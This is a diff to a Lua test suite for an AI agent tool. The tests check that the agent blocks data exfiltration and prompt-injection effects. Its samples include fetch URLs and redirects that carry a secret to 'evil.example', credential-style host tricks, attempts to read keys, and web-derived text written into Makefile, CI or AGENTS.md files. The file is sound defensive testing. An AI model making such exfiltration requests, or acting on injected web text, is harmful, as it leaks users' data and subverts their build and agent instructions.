@@ -9,6 +9,21 @@ local orchestrate = require "hocket.orchestrate"
 local system = require "hocket.internal.core.system"
 local tool = require "hocket.tool"
 
+local tried, held = 0, 0
+
+-- One attack: what its outcome has to hold, or not.
+local function holds(text, expected)
+  tried = tried + 1
+  t.has(text, expected)
+  held = held + 1
+end
+
+local function hides(text, secret, what)
+  tried = tried + 1
+  t.lacks(text, secret, what)
+  held = held + 1
+end
+
 local function with_env(values, fn)
   local real = system.getenv
   system.getenv = function(name)
@@ -71,8 +86,7 @@ t.test("what was read does not leave in an address", function()
     options.workdir = dir.path
     for _, first in ipairs { read "notes.txt", { "search_files", { content = "SECRET" } }, { "list_directory", { path = "." } }, { "read_files", { paths = { "notes.txt" } } } } do
       local results, run = play({ first, evil }, options)
-      t.has(results[2], "was not allowed")
-      t.has(results[2], "text from files or programs")
+      holds(results[2], "text from files or programs")
       t.equal(s.events(run, "labels_added")[1].labels[1], "private")
     end
   end
@@ -97,11 +111,11 @@ t.test("hosts that a person has named", function()
     end
     t.has(outcome({ typed = true, input = "Compare my notes with " .. base .. "/page." }), "no public address")
     t.has(outcome({ typed = true, input = "see (" .. base:upper() .. ")" }), "no public address")
-    t.has(outcome({ typed = true, input = "see " .. base }, "http://127.0.0.1:1/"), "was not allowed") -- another port
-    t.has(outcome({ typed = true, input = "see " .. base }, "http://127.0.0.1.evil.example/"), "was not allowed")
-    t.has(outcome({ typed = true, input = "see " .. base }, ("http://127.0.0.1:%d@evil.example/"):format(port)), "user name cannot be fetched")
-    t.has(outcome({ typed = true, input = "see docs.example" }, "http://docs.example/"), "was not allowed") -- notes.md is no host either
-    t.has(outcome({ input = "see " .. base }), "was not allowed") -- a pipe's words
+    holds(outcome({ typed = true, input = "see " .. base }, "http://127.0.0.1:1/"), "was not allowed") -- another port
+    holds(outcome({ typed = true, input = "see " .. base }, "http://127.0.0.1.evil.example/"), "was not allowed")
+    holds(outcome({ typed = true, input = "see " .. base }, ("http://127.0.0.1:%d@evil.example/"):format(port)), "user name cannot be fetched")
+    holds(outcome({ typed = true, input = "see docs.example" }, "http://docs.example/"), "was not allowed") -- notes.md is no host either
+    holds(outcome({ input = "see " .. base }), "was not allowed") -- a pipe's words
     t.has(outcome({ approve = ("web_fetch(%s/*)=allow"):format(base) }), "no public address")
     with_env({ HOCKET_WEB_ALLOW = "127.0.0.1:" .. port }, function() t.has(outcome({}), "a page") end)
   end)
@@ -118,14 +132,14 @@ t.test("a redirect is a request to somebody else", function()
     with_env({ HOCKET_WEB_ALLOW = "127.0.0.1:" .. port }, function()
       local results = play({ read "notes.txt", fetch(base .. "/to?http://evil.example/?SECRET"), fetch(base .. "/to?/here"),
         fetch(base .. "/to?" .. base .. "/there"), fetch(("%s/to?http://localhost:%d/"):format(base, port)) }, { workdir = dir.path })
-      t.has(results[2], "it leads to another place, which was not asked")
+      holds(results[2], "it leads to another place, which was not asked")
       t.has(results[3], "a page")
       t.has(results[4], "a page")
-      t.has(results[5], "it leads to another place")
+      holds(results[5], "it leads to another place")
       t.equal(#seen, 6)
       -- A rule that denies an address holds behind a redirect, too.
       results = play({ fetch(base .. "/start") }, { workdir = dir.path, approve = ("web_fetch(%s/secret)=deny"):format(base) })
-      t.has(results[1], "which is not allowed")
+      holds(results[1], "which is not allowed")
       results = play({ fetch(base .. "/start") }, { workdir = dir.path })
       t.has(results[1], "a page")
     end)
@@ -172,7 +186,7 @@ t.test("keys are not read without a question, by any way to them", function()
     options.workdir = dir.path
     local results = play(ways, options)
     t.equal(#results, #ways)
-    for i, result in ipairs(results) do t.lacks(result, "hunter2", ways[i][1]) end
+    for i, result in ipairs(results) do hides(result, "hunter2", ways[i][1]) end
     t.has(results[1], options.approve and "may hold keys" or "was not allowed")
     t.has(results[#results - 1], "plain.txt:1:KEY=plain")
     t.has(results[#results - 1], "that may hold keys")
@@ -212,7 +226,7 @@ t.test("what a labelled conversation wrote carries its labels to the next", func
     sink_ran = 0
     play(case[1], { workdir = dir.path, approve = "allow" }, with_sinks())
     local results, run = play({ case[2], sink }, { workdir = dir.path, approve = "allow" }, with_sinks()) -- another run
-    t.has(results[2], "text from the web")
+    holds(results[2], "text from the web")
     t.equal(sink_ran, 0)
     t.equal(s.events(run, "labels_added")[1].labels[1], "web")
     results = play({ read "untouched.txt", sink }, { workdir = dir.path, approve = "allow" }, with_sinks())
@@ -227,11 +241,11 @@ t.test("of a program nobody knows what it wrote, or what it has read", function(
   play({ { "page", {} }, { "execute_command", { command = "echo WORDS > by.program" } } }, { workdir = dir.path, approve = rules }, with_sinks())
   sink_ran = 0
   local results = play({ read "by.program", { "sink", {} } }, { workdir = dir.path, approve = "allow" }, with_sinks())
-  t.has(results[2], "text from the web")
+  holds(results[2], "text from the web")
   local other <close> = t.dir()
   play({ { "page", {} }, { "write_file", { path = "note.txt", content = "WORDS" } } }, { workdir = other.path, approve = "allow" }, with_sinks())
   results = play({ { "execute_command", { command = "cat note.txt" } }, { "sink", {} } }, { workdir = other.path, approve = rules }, with_sinks())
-  t.has(results[2], "text from the web")
+  holds(results[2], "text from the web")
   t.equal(sink_ran, 0)
 end)
 
@@ -241,8 +255,8 @@ t.test("a stranger's words do not become what others obey, even under allow", fu
   local paths = { "Makefile", "package.json", "conftest.py", ".github/workflows/ci.yml", "AGENTS.md", "sub/pyproject.toml" }
   for _, path in ipairs(paths) do
     local results = play({ { "page", {} }, write(path), write "notes.md", { "move_file", { from = "notes.md", to = path } } }, { workdir = dir.path, approve = { "allow", "write_file=allow" } }, with_sinks())
-    t.has(results[2], "obeyed by other programs")
-    t.has(results[4], "obeyed by other programs")
+    holds(results[2], "obeyed by other programs")
+    holds(results[4], "obeyed by other programs")
     t.equal(fs.info(dir.path .. "/" .. path), nil)
     os.remove(dir.path .. "/notes.md")
   end
@@ -250,4 +264,5 @@ t.test("a stranger's words do not become what others obey, even under allow", fu
   t.has(results[1], "created Makefile")
 end)
 
+print(("  tried %d, held %d"):format(tried, held))
 return t.finish()
